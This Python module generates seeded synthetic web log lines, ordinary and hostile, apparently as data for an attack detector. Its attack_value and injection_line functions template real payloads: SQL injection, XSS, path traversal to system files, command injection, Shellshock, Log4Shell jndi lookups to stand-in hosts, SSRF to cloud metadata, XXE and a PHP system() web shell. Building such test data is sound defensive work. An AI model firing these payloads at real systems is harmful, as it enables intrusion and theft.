"""Requests written for this project: ordinary ones, attacks and scanners, as builders.

Ordinary values are chosen to look like attacks where real ones do (O'Neil, a search for "select
a sofa from the list", rich text, redirect addresses), and attacks cover classes that the
public sets lack. Every builder is seeded: the same rows each time.
"""

from __future__ import annotations

import base64
import json
import random
from collections.abc import Callable
from pathlib import Path
from urllib.parse import quote, quote_plus

LISTS = json.loads(Path(__file__).with_suffix(".json").read_text("utf-8"))
(
    FIRST,
    LAST,
    WORDS,
    HAN,
    PHRASES,
    COMMANDS,
    HOSTS,
    BROWSERS,
    WEIGHTS,
    SCANNERS,
    FORGED,
    PROGRAMS,
    PROBES,
    FILES,
) = (
    LISTS[name]
    for name in (
        "first",
        "last",
        "words",
        "han",
        "phrases",
        "commands",
        "hosts",
        "browsers",
        "weights",
        "scanners",
        "forged",
        "programs",
        "probes",
        "files",
    )
)


def _number(r: random.Random) -> str:
    return str(r.randrange(10 ** r.randint(1, 9)))


def typed_value(r: random.Random) -> str:
    """A value as a person types it into a field."""
    kinds: list[Callable[[], str]] = [
        lambda: f"{r.choice(FIRST)} {r.choice(LAST)}",
        lambda: r.choice(PHRASES),
        lambda: r.choice(PHRASES),
        lambda: " ".join(r.sample(WORDS, r.randint(1, 5))),
        lambda: r.choice(HAN) + r.choice(["", " ", "2024", r.choice(HAN)]),
        lambda: f"{r.choice(FIRST)}.{r.choice(WORDS)}@{r.choice(HOSTS)}",
        lambda: f"{r.choice(WORDS)},{r.choice(WORDS)};{r.choice(WORDS)}",
        lambda: f"({r.randint(1, 99)}) {r.choice(WORDS)} - {r.choice(WORDS)}'s",
        lambda: f"{_number(r)}' x {_number(r)}\" frame",
        lambda: f"+{r.randint(1, 99)} {r.randint(100, 999)} {r.randint(1000, 9999)}",
        lambda: f"C/ {r.choice(WORDS)}, {r.randint(1, 99)} {r.randint(1, 9)}º-A",
        lambda: f"<p>{r.choice(PHRASES)}</p>" if r.random() < 0.2 else r.choice(WORDS),
    ]
    return r.choice(kinds)()


def made_value(r: random.Random) -> str:
    """A value as a program makes it."""
    token = base64.urlsafe_b64encode(r.randbytes(r.randint(9, 48))).decode()
    plain = ["asc", "desc", "true", "false", "null", "undefined", "on", "", "-1", "N/A"]
    kinds: list[Callable[[], str]] = [
        lambda: _number(r),
        lambda: f"https://{r.choice(HOSTS)}/{r.choice(WORDS)}?ref={r.choice(WORDS)}",
        lambda: f"20{r.randint(10, 26)}-{r.randint(1, 12):02}-{r.randint(1, 28):02} 10:30:00",
        lambda: token,
        lambda: f"eyJhbGciOiJIUzI1NiJ9.{token}.{token[:20]}",
        lambda: f'{{"id":{_number(r)},"name":"{r.choice(WORDS)}","tags":["{r.choice(WORDS)}"]}}',
        lambda: f"#{r.randrange(1 << 24):06x}",
        lambda: f"{r.choice(WORDS)}/{r.choice(WORDS)}.{r.choice(['pdf', 'docx', 'jpg', 'php'])}",
        lambda: f"{r.random():.4f}",
        lambda: f"{r.choice(WORDS)}=1&{r.choice(WORDS)}=2",
        lambda: r.choice(plain),
    ]
    return r.choice(kinds)()


def ordinary_value(r: random.Random) -> str:
    """A value that a person typed or a program made."""
    return r.choice((typed_value, made_value))(r)


def attack_value(r: random.Random) -> str:
    """A payload of any class, from patterns everyone who defends web sites knows."""
    n, m, w = _number(r), r.randint(1, 12), r.choice(WORDS)
    end = r.choice(["-- -", "#", "--+", ";--", "", "-- " + w])
    quote_ = r.choice(["'", '"', "')", "'))", "", '")', "%'"])
    columns = ",".join(r.choice(["null", str(i + 1), "version()", "@@version"]) for i in range(m))
    command = r.choice(COMMANDS)
    depth = r.randint(2, 12)
    file = r.choice(FILES)
    js = r.choice(["alert(1)", "alert(document.cookie)", "confirm`1`", "prompt(9)", "eval(name)"])
    tag = r.choice(
        ["img src=x", "svg", "body", "input autofocus", "details open", "video", "iframe"]
    )
    on = r.choice(["onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onstart"])
    kinds: list[Callable[[], str]] = [
        lambda: f"{n}{quote_} union all select {columns}{end}",
        lambda: f"{n}{quote_} or {m}={m}{end}",
        lambda: f"{w}{quote_} and sleep({m}){end}",
        lambda: f"{n}{quote_};waitfor delay '0:0:{m}'{end}",
        lambda: f"{n}{quote_} and extractvalue({m},concat(0x7e,(select user()))){end}",
        lambda: f"admin{quote_ or chr(39)}{end}",
        lambda: f"{w}{quote_} or '{w}'='{w}",
        lambda: f"{n}{quote_} order by {m}{end}",
        lambda: f"(select (case when ({n}={n}) then {m} else 1/0 end))",
        lambda: f"{n};drop table {w}{end}",
        lambda: (
            f"{n} and (select {m} from (select count(*),concat(0x71,floor(rand(0)*2))x from "
            f"information_schema.tables group by x)a)"
        ),
        lambda: f"{r.choice(['', chr(34), chr(39)])}><{tag} {on}={js}>",
        lambda: f"<script>{js}</script>",
        lambda: f"<ScRiPt >{js}</sCrIpT>",
        lambda: f"javascript:{js}//",
        lambda: f"'-{js}-'",
        lambda: f'<a href="data:text/html;base64,{base64.b64encode(w.encode()).decode()}">x</a>',
        lambda: "../" * depth + file,
        lambda: "..\\" * depth + file.replace("/", "\\"),
        lambda: "....//" * depth + file,
        lambda: f"php://filter/convert.base64-encode/resource={w}.php",
        lambda: f"/{file}",
        lambda: f"file:///{file}",
        lambda: f"{w}{r.choice([';', '|', '&&', '||', '%0a', '`', '$('])}{command}",
        lambda: f"() {{ :; }}; /bin/bash -c '{command}'",
        lambda: f"${{jndi:{r.choice(['ldap', 'rmi', 'dns'])}://192.0.2.7:1389/{w}}}",
        lambda: f"${{${{::-j}}ndi:ldap://x.example/{w}}}",
        lambda: r.choice(["{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{config.items()}}"]),
        lambda: "{{''.__class__.__mro__[1].__subclasses__()}}",
        lambda: f"http://169.254.169.254/latest/meta-data/{r.choice(['', 'iam/', 'user-data'])}",
        lambda: f"gopher://127.0.0.1:6379/_{w}",
        lambda: f"http://127.0.0.1:{r.choice([22, 80, 6379, 8080, 9200])}/{w}",
        lambda: f"{w}%0d%0aSet-Cookie:{w}={n}",
        lambda: (
            f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///{file}">]><r>&x;</r>'
        ),
        lambda: f"<?php {r.choice(['system', 'eval', 'passthru'])}($_GET['{w}']);?>",
        lambda: f"_method=__construct&filter[]=system&method=get&get[]={command}",
        lambda: f'O:8:"{w}":1:{{s:4:"file";s:11:"/{file}";}}',
        lambda: "*)(uid=*))(|(uid=*",
        lambda: '{"username":{"$ne":null},"password":{"$gt":""}}',
        lambda: f"phpinfo();print(md5({n}));",
    ]
    value = r.choice(kinds)()
    if r.random() < 0.15:
        value = value.replace(" ", r.choice(["/**/", "%09", "+", "%0a"]))
    if r.random() < 0.1:
        value = "".join(c.upper() if r.random() < 0.5 else c for c in value)
    return value


def _agent(r: random.Random) -> str:
    return r.choices(BROWSERS, WEIGHTS)[0].format(
        c=r.randint(90, 131),
        o=r.randint(30, 80),
        b=r.randint(1600, 3900),
        p=r.randint(40, 180),
        f=r.randint(40, 128),
    )


def _line(r: random.Random, method: str, target: str, status: int, referer: str, agent: str) -> str:
    client = f"{r.choice([203, 198, 192])}.0.{r.randint(0, 255)}.{r.randint(1, 254)}"
    when = (
        f"{r.randint(1, 28):02}/{r.choice(['Jan', 'Apr', 'Jul', 'Oct'])}/20{r.randint(14, 26)}:"
        f"{r.randint(0, 23):02}:{r.randint(0, 59):02}:{r.randint(0, 59):02} +0{r.choice([0, 8])}00"
    )
    size = r.randint(0, 90_000)
    return (
        f'{client} - - [{when}] "{method} {target} HTTP/1.1" {status} {size} "{referer}" "{agent}"'
    )


def visit_line(r: random.Random) -> str:
    """A person's request, as sites of many kinds log it: content systems, shops, portals."""
    return _ordinary(r, _agent(r))


def program_line(r: random.Random) -> str:
    """A request of a crawler, a feed reader, a monitor or another program of good standing."""
    return _ordinary(r, r.choice(PROGRAMS))


def _ordinary(r: random.Random, agent: str) -> str:
    word, number = r.choice(WORDS), _number(r)
    paths = [
        "/",
        "/index.php",
        "/index.html",
        "/favicon.ico",
        "/robots.txt",
        f"/{word}/",
        "/sitemap.xml",
        f"/index.php/component/{word}/",
        f"/index.php?option=com_{word}&view=article&id={number}",
        f"/wp-content/themes/{word}/style.css?ver=6.{r.randint(0, 6)}",
        f"/20{r.randint(10, 26)}/05/{word}-{number}/",
        f"/wp-json/wp/v2/posts?per_page=10&page={r.randint(1, 9)}",
        f"/product/{number}.html",
        f"/api/v1/{word}/{number}",
        f"/static/js/{word}.{r.randrange(1 << 32):08x}.js",
        "/login",
        "/cart",
        f"/art/2023/5/{r.randint(1, 28)}/art_{number}_{number}.html",
        f"/images/{word}.jpg",
        "/user/login",
        f"/search?q={quote_plus(ordinary_value(r))}",
        f"/s?wd={quote(r.choice(HAN))}&pn=10",
        f"/{word}.php?id={number}&lang=en",
        f"/download/{word}-2.{r.randint(0, 9)}.zip",
        f"/blog/tags/{word}",
        f"/redirect?url={quote('https://' + r.choice(HOSTS) + '/' + word, safe='')}",
        "/rss",
        "/feed/",
        f"/media/system/js/{word}.js",
        f"/{word}/list.jsp?page={r.randint(1, 40)}",
        "/admin/dashboard",
        f"/~{r.choice(FIRST)}/paper.pdf",
        f"/wiki/{word.title()}_({r.choice(WORDS)})",
        "/.well-known/acme-challenge/x",
        f"/track?e=view&d={quote(ordinary_value(r), safe='')}",
        f"/{quote(r.choice(HAN))}/",
    ]
    path = r.choice(paths)
    post = r.random() < 0.14
    status = r.choices(
        [200, 304, 301, 302, 206, 404, 403, 401, 500], [60, 12, 5, 7, 2, 8, 2, 2, 2]
    )[0]
    host = r.choice(HOSTS)
    referer = r.choices(
        [
            "-",
            f"https://{host}/{word}/",
            f"https://www.google.com/search?q={word}+{r.choice(WORDS)}",
            f"https://{host}/?utm_source={word}",
            f"http://{host}/s?wd={quote(r.choice(HAN))}",
        ],
        [40, 40, 8, 6, 6],
    )[0]
    return _line(r, "POST" if post else "GET", path, status, referer, agent)


def _scan(r: random.Random, target: str, agent: str) -> str:
    methods = ["GET", "POST", "HEAD", "OPTIONS", "TRACE", "PUT", "PROPFIND"]
    method = r.choices(methods, [70, 14, 6, 4, 2, 2, 2])[0]
    statuses = [404, 200, 403, 400, 500, 301, 302, 401, 405]
    status = r.choices(statuses, [45, 20, 8, 7, 8, 4, 4, 2, 2])[0]
    referer = "-" if r.random() < 0.8 else f"http://{r.choice(HOSTS)}/"
    return _line(r, method, target, status, referer, agent)


def _injected(r: random.Random) -> str:
    """A target that carries a payload, encoded once or twice."""
    payload, word = attack_value(r), r.choice(WORDS)
    safe = r.choice(["", "/", "/'():;=", "'()*"])
    sent = quote_plus(payload) if r.random() < 0.2 else quote(payload, safe=safe)
    if r.random() < 0.06:
        sent = quote(sent, safe="")
    return r.choice(
        [
            f"/{word}.php?id={sent}",
            f"/search?q={sent}",
            f"/{word}/{sent}",
            f"/index.php?option=com_{word}&file={sent}",
            f"/api/{word}?filter={sent}",
            f"/{word}?{r.choice(WORDS)}={quote(typed_value(r), safe='')}&{word}={sent}",
        ]
    )


def _innocent(r: random.Random) -> str:
    """A target that says nothing by itself, as most requests of a scanner are."""
    word = r.choice(WORDS)
    return r.choice(
        [
            "/",
            "/index.php",
            f"/{word}/",
            f"/{word}.php?id={r.randint(1, 99)}",
            f"/login?next=/{word}",
        ]
    )


def tool_line(r: random.Random) -> str:
    """A request of a scanner that says its name."""
    target = r.choice([_injected, _innocent, lambda r: r.choice(PROBES)])(r)
    return _scan(r, target, r.choice(SCANNERS[:13]))


def forged_line(r: random.Random) -> str:
    """A request under the name of a browser that does not exist."""
    target = r.choice([_injected, _innocent, _innocent, lambda r: r.choice(PROBES)])(r)
    return _scan(r, target, r.choice(FORGED))


def probe_line(r: random.Random) -> str:
    """A search for what should not be there, by a program or under a browser's name."""
    name = "".join(r.choice("abcdefghkmnpqrstuvwxyzABCDEFGHJK23456789") for _ in range(8))
    made = [f"/{name}.{r.choice(['php', 'asp', 'jsp', 'cgi'])}", f"/{r.choice(WORDS)}.php.bak"]
    target = r.choice(PROBES) if r.random() < 0.8 else r.choice(made)
    return _scan(r, target, r.choice(SCANNERS[13:]) if r.random() < 0.5 else _agent(r))


def injection_line(r: random.Random) -> str:
    """A payload in the target, the referer or the agent, under a browser's or program's name."""
    agent = r.choice(SCANNERS[13:]) if r.random() < 0.3 else _agent(r)
    if r.random() < 0.1:
        hidden = f"${{jndi:ldap://192.0.2.{r.randint(1, 254)}:1389/{r.choice(WORDS)}}}"
        shock = f"() {{ :; }}; /bin/bash -c '{r.choice(COMMANDS)}'"
        return _scan(r, _innocent(r), r.choice([hidden, shock, f"{agent}' and sleep(5)-- -"]))
    return _scan(r, _injected(r), agent)


def rows(build: Callable[[random.Random], str], count: int, seed: int) -> list[str]:
    """`count` different rows of one builder."""
    r = random.Random(seed)
    found: dict[str, None] = {}
    while len(found) < count:
        found[build(r)] = None
    return list(found)
